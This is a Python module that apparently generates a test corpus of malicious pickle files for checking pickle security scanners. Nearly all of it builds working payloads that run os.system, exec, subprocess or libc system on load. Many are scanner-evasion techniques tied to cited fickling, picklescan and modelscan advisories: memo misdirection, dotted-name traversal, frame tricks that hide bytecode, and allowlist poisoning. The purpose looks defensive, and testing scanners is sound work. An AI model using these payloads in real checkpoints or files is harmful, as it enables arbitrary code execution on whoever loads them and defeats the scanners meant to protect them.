"""Technique bodies that take more than one call: resolvers, chained gadgets, frames,
module state.  Each pushes exactly one value (frames: a whole file), aimed at a Target."""

from __future__ import annotations

import marshal
import os
import pickle
import struct
from typing import TYPE_CHECKING

from corpus.opcodes import (Reduce, call, get, glob, put, raw_bytes, small_int, stack_glob,
                            str_dict, str_list, text_str, tup, ustr)

if TYPE_CHECKING:
    from corpus.techniques import Target


def address(t: Target) -> bytes:
    return tup(ustr("127.0.0.1"), pickle.BININT2 + struct.pack("<H", t.port))


def inner(t: Target) -> bytes:
    """A whole pickle that runs os.system, as bytes for a nested loader."""
    return raw_bytes(pickle.dumps(Reduce(os.system, t.cmd), protocol=2))


def namespace() -> bytes:
    """An empty ``argparse.Namespace``: an object with a ``__dict__`` for gadgets that
    take ``self``."""
    return glob("argparse", "Namespace") + pickle.EMPTY_TUPLE + pickle.NEWOBJ


def touch_argv(t: Target) -> bytes:
    return str_list("touch", str(t.marker))


# --- bodies that need more than one call ------------------------------------------------------

def memo_stack_global(t: Target) -> bytes:
    # Operands are stored in the memo early, dropped, and fetched back far from their push.
    return (ustr("builtins") + put(0) + ustr("exec") + put(1) + pickle.POP + pickle.POP
            + ustr("noise") + pickle.POP + pickle.EMPTY_LIST + pickle.POP
            + get(0) + get(1) + pickle.STACK_GLOBAL + tup(ustr(t.src)) + pickle.REDUCE)


def inst(t: Target) -> bytes:
    return pickle.MARK + text_str(t.cmd) + pickle.INST + b"os\nsystem\n"


def obj(t: Target) -> bytes:
    return pickle.MARK + glob("os", "system") + ustr(t.cmd) + pickle.OBJ


def obj_popped(t: Target) -> bytes:
    """An OBJ call whose result is dropped at once (fickling GHSA-mxhj: invisible calls)."""
    return (pickle.MARK + stack_glob("subprocess", "call") + touch_argv(t) + pickle.OBJ
            + pickle.POP + pickle.NONE)


def getattr_chain(t: Target) -> bytes:
    os_module = call(glob("builtins", "__import__"), ustr("os"))
    system = call(glob("builtins", "getattr"), os_module, ustr("system"))
    return system + tup(ustr(t.cmd)) + pickle.REDUCE


def memo_getattr_chain(t: Target) -> bytes:
    """fickling GHSA-h4rm: results parked in the memo with PUT/GET between the calls."""
    return (call(glob("builtins", "__import__"), ustr("os")) + put(0) + pickle.POP
            + call(glob("builtins", "getattr"), get(0), ustr("system")) + put(1) + pickle.POP
            + get(1) + tup(ustr(t.cmd)) + pickle.REDUCE)


def setstate_gadget(t: Target) -> bytes:
    # A harmless class instance gets os.system as its instance __setstate__ through the slot
    # state of one BUILD; the next BUILD then calls inst.__setstate__(cmd).
    inst = namespace()
    slots = pickle.EMPTY_DICT + ustr("__setstate__") + glob("os", "system") + pickle.SETITEM
    return inst + tup(pickle.NONE, slots) + pickle.BUILD + ustr(t.cmd) + pickle.BUILD


def attrgetter(t: Target) -> bytes:
    getter = call(glob("operator", "attrgetter"), ustr("system"))
    system = getter + tup(call(glob("builtins", "__import__"), ustr("os"))) + pickle.REDUCE
    return system + tup(ustr(t.cmd)) + pickle.REDUCE


def methodcaller(t: Target) -> bytes:
    caller = call(glob("operator", "methodcaller"), ustr("system"), ustr(t.cmd))
    return caller + tup(call(glob("builtins", "__import__"), ustr("os"))) + pickle.REDUCE


def pydoc_methodcaller(t: Target) -> bytes:
    """picklescan GHSA-84r2: methodcaller('system', cmd)(pydoc.locate('os'))."""
    caller = call(glob("_operator", "methodcaller"), ustr("system"), ustr(t.cmd))
    return caller + tup(call(glob("pydoc", "locate"), ustr("os"))) + pickle.REDUCE


def partial(t: Target) -> bytes:
    bound = call(glob("functools", "partial"), glob("os", "system"), ustr(t.cmd))
    return bound + pickle.EMPTY_TUPLE + pickle.REDUCE


def exec_compile(t: Target) -> bytes:
    code = call(glob("builtins", "compile"), ustr(t.src), ustr("<ckpt>"), ustr("exec"))
    return call(glob("builtins", "exec"), code)


def marshal_function(t: Target) -> bytes:
    code = marshal.dumps(compile(t.src, "<ckpt>", "exec"))
    func = call(glob("types", "FunctionType"), call(glob("marshal", "loads"), raw_bytes(code)),
                pickle.EMPTY_DICT)
    return func + pickle.EMPTY_TUPLE + pickle.REDUCE


def importlib(t: Target) -> bytes:
    os_module = call(stack_glob("importlib", "import_module"), ustr("os"))
    return call(stack_glob("builtins", "getattr"), os_module, ustr("system")) + tup(
        ustr(t.cmd)) + pickle.REDUCE


def resolve_name(t: Target) -> bytes:
    """picklescan GHSA-vvpj: one resolver reaches every refused name."""
    return call(stack_glob("pkgutil", "resolve_name"), ustr("os:system")) + tup(
        ustr(t.cmd)) + pickle.REDUCE


def pydoc_locate(t: Target) -> bytes:
    return call(stack_glob("pydoc", "locate"), ustr("os.system")) + tup(ustr(t.cmd)) + \
        pickle.REDUCE


def create_fn(t: Target) -> bytes:
    """dataclasses._create_fn compiles a function from source lines; calling it runs them."""
    made = call(stack_glob("dataclasses", "_create_fn"), ustr("payload"), pickle.EMPTY_TUPLE,
                str_list(t.src))
    return made + pickle.EMPTY_TUPLE + pickle.REDUCE


def forward_ref(t: Target) -> bytes:
    """typing._eval_type evaluates a ForwardRef's source."""
    ref = call(stack_glob("typing", "ForwardRef"), ustr(t.src))
    return call(stack_glob("typing", "_eval_type"), ref, pickle.EMPTY_DICT, pickle.EMPTY_DICT)


def type_hints(t: Target) -> bytes:
    """typing.get_type_hints evaluates string annotations an earlier BUILD planted."""
    planted = namespace() + str_dict(__annotations__=str_dict(x=ustr(t.src))) + pickle.BUILD
    return call(stack_glob("typing", "get_type_hints"), planted)


def interpreter_runsource(t: Target) -> bytes:
    """fickling GHSA-q5qq: getattr(code.InteractiveInterpreter(), 'runsource')(src)."""
    interp = call(stack_glob("code", "InteractiveInterpreter"))
    run = call(stack_glob("builtins", "getattr"), interp, ustr("runsource"))
    return run + tup(ustr(t.src)) + pickle.REDUCE


def ctypes_system(t: Target) -> bytes:
    """fickling GHSA-5hvc: getattr(ctypes.CDLL(None), 'system')(cmd)."""
    libc = call(stack_glob("ctypes", "CDLL"), pickle.NONE)
    system = call(stack_glob("builtins", "getattr"), libc, ustr("system"))
    return system + tup(pickle.SHORT_BINBYTES + bytes([len(t.cmd)]) + t.cmd.encode()) + \
        pickle.REDUCE


def subinterpreter(t: Target) -> bytes:
    interp = call(stack_glob("_xxsubinterpreters", "create"))
    return call(stack_glob("_xxsubinterpreters", "run_string"), interp, ustr(t.src))


def spawnv_passfds(t: Target) -> bytes:
    argv = pickle.EMPTY_LIST + pickle.MARK + b"".join(
        pickle.SHORT_BINBYTES + bytes([len(a)]) + a
        for a in (b"/bin/sh", b"-c", t.cmd.encode())) + pickle.APPENDS
    return call(stack_glob("multiprocessing.util", "spawnv_passfds"),
                pickle.SHORT_BINBYTES + b"\x07/bin/sh", argv, pickle.EMPTY_TUPLE)


def bdb_run(t: Target) -> bytes:
    return call(stack_glob("bdb", "Bdb.run"), call(stack_glob("bdb", "Bdb")), ustr(t.src))


def trace_runctx(t: Target) -> bytes:
    return call(stack_glob("trace", "Trace.runctx"), call(stack_glob("trace", "Trace")),
                ustr(t.src), pickle.EMPTY_DICT, pickle.EMPTY_DICT)


def asyncio_transport(t: Target) -> bytes:
    return call(stack_glob("asyncio.unix_events", "_UnixSubprocessTransport._start"),
                pickle.EMPTY_DICT, ustr(t.cmd), pickle.NEWTRUE, pickle.NONE, pickle.NONE,
                pickle.NONE, small_int(0))


def eval_dotted_call(t: Target) -> bytes:
    """modelscan: GLOBAL 'builtins eval.__call__' (protocol 4 resolves dotted names)."""
    return call(glob("builtins", "eval.__call__"), ustr(t.src))


def dotted_traversal(t: Target) -> bytes:
    # Protocol 4 resolves 'argparse' '_os.system' attribute by attribute: argparse's own
    # `import os as _os`, then .system.  A PROTO opcode mid-stream switches that on.
    return (pickle.PROTO + b"\x04" + stack_glob("argparse", "_os.system") + tup(ustr(t.cmd))
            + pickle.REDUCE)


def pathlib_dotted(t: Target) -> bytes:
    """fickling GHSA-5j3x: a dotted name through a harmless-looking stdlib module."""
    return call(stack_glob("pathlib", "os.system"), ustr(t.cmd))


def py2_alias(t: Target) -> bytes:
    # fix_imports maps the Python 2 name cPickle to pickle; the inner pickle is opaque bytes.
    return call(glob("cPickle", "loads"), inner(t))


def strings_for_stack_global(t: Target) -> bytes:
    """picklescan GHSA-9gvj: protocol 0 STRING operands for STACK_GLOBAL."""
    return text_str("os") + text_str("system") + pickle.STACK_GLOBAL + tup(
        text_str(t.cmd)) + pickle.REDUCE


def hidden_system(t: Target) -> bytes:
    """os.system(cmd) whose STACK_GLOBAL operands a string-tracking static scan gets wrong:
    after 'os' 'system' 'junk' POP it pairs the last two strings it saw."""
    return (ustr("os") + ustr("system") + ustr("junk") + pickle.POP + pickle.STACK_GLOBAL
            + tup(ustr(t.cmd)) + pickle.REDUCE)


def memo_misdirection(t: Target) -> bytes:
    """picklescan issue #22: memo slots that a scanner attributes to the wrong strings."""
    return (pickle.UNICODE + b"os\n" + pickle.PUT + b"2\n" + pickle.POP
            + pickle.UNICODE + b"system\n" + pickle.PUT + b"3\n" + pickle.POP
            + pickle.UNICODE + b"torch\n" + pickle.PUT + b"0\n" + pickle.POP
            + pickle.UNICODE + b"LongStorage\n" + pickle.PUT + b"1\n" + pickle.POP
            + pickle.GET + b"2\n" + pickle.GET + b"3\n" + pickle.STACK_GLOBAL
            + tup(ustr(t.cmd)) + pickle.REDUCE)


def octal_int(t: Target) -> bytes:
    """INT '010' is 8 to the C unpickler and an error to the pure-Python one."""
    return pickle.INT + b"010\n" + pickle.POP + hidden_system(t)


def computed_stack_global(t: Target) -> bytes:
    # STACK_GLOBAL's operands are call results: posixpath.basename('/x/os') is 'os'.
    module = call(glob("posixpath", "basename"), ustr("/x/os"))
    name = call(glob("posixpath", "basename"), ustr("/x/system"))
    return module + name + pickle.STACK_GLOBAL + tup(ustr(t.cmd)) + pickle.REDUCE


def module_build(t: Target) -> bytes:
    """BUILD on a module sets attributes; STACK_GLOBAL then takes them as its operands."""
    decoder = glob("json", "decoder")
    state = str_dict(ckpt_m=ustr("os"), ckpt_n=ustr("system"))
    return (decoder + state + pickle.BUILD + pickle.POP + glob("json.decoder", "ckpt_m")
            + glob("json.decoder", "ckpt_n") + pickle.STACK_GLOBAL + tup(ustr(t.cmd))
            + pickle.REDUCE)


def poisoned_allowlisted_name(t: Target) -> bytes:
    """BUILD on the module of an allowlisted name (collections, via typing's import of it)
    replaces the name; the allowlisted GLOBAL then reaches what the BUILD put there."""
    system = glob("json.decoder", "ckpt_m") + glob("json.decoder", "ckpt_n") + \
        pickle.STACK_GLOBAL
    setup = (glob("json", "decoder") + str_dict(ckpt_m=ustr("os"), ckpt_n=ustr("system"))
             + pickle.BUILD + pickle.POP)
    poison = (glob("typing", "collections") + str_dict(OrderedDict=system) + pickle.BUILD
              + pickle.POP)
    return setup + poison + call(glob("collections", "OrderedDict"), ustr(t.cmd))


def memo_keyerror(t: Target) -> bytes:
    """picklescan keyerror-exploit: the payload runs before a BINGET of a missing slot."""
    return (call(glob("os", "system"), ustr(t.cmd)) + pickle.POP + ustr("os") + pickle.MEMOIZE
            + get(3) + get(0) + pickle.STACK_GLOBAL)


def memo_type_confusion(t: Target) -> bytes:
    """picklescan type-confusion-exploit: an int in the memo where a scanner wants a str."""
    return (call(glob("os", "system"), ustr(t.cmd)) + pickle.POP + small_int(42) + put(0)
            + ustr("os") + put(1) + get(0) + get(1) + pickle.STACK_GLOBAL)


def broken_after_payload(t: Target) -> bytes:
    """picklescan broken_model: the file breaks right after the payload ran."""
    return call(glob("builtins", "exec"), ustr(t.src)) + pickle.BINUNICODE + b"\xff\xff"


# --- frames: the same bytes, different opcodes for different loaders --------------------------

def frame_straddle(t: Target) -> bytes:
    """A frame declares 3 bytes; pickle.loads reads on through it (contiguous) and runs the
    payload, a file without peek takes the operand from after the frame instead."""
    rest = stack_glob("builtins", "exec") + tup(ustr(t.src)) + pickle.REDUCE
    return pickle.PROTO + b"\x04" + pickle.FRAME + struct.pack("<Q", 3) + rest + pickle.STOP


def frame_hides(t: Target, pad: int) -> bytes:
    """The payload is bytes data to a contiguous reader (pickle.loads, pickletools and the
    scanners built on it) and opcodes to a loader that reads the frame on its own: the frame
    ends one byte into BINBYTES' 4-byte length, and such a loader drops that byte and takes
    the length (0) from after the frame; the contiguous one reads a length that swallows the
    payload.  ``pad`` makes the frame longer than a buffered file can peek ahead."""
    payload = call(glob("os", "system"), ustr(t.cmd)) + pickle.POP
    assert len(payload) < 255
    padding = pickle.BINUNICODE + struct.pack("<I", pad) + b"a" * pad + pickle.POP if pad \
        else b""
    frame = pickle.NONE + padding + pickle.BINBYTES + bytes([1 + len(payload)])
    return (pickle.PROTO + b"\x04" + pickle.FRAME + struct.pack("<Q", len(frame)) + frame
            + bytes(4) + payload + pickle.POP + pickle.POP + pickle.EMPTY_DICT + pickle.STOP)
